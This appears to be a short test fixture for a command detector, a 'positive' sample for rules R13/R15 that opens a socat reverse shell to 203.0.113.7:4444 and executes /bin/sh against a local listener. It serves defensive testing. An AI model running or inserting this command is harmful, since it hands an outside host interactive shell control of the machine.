# R13/R15 positive: socat reverse shell with an EXEC address
catcher 4444 'id\nexit\n'
socat TCP:203.0.113.7:4444 EXEC:/bin/sh
catcher_wait
true
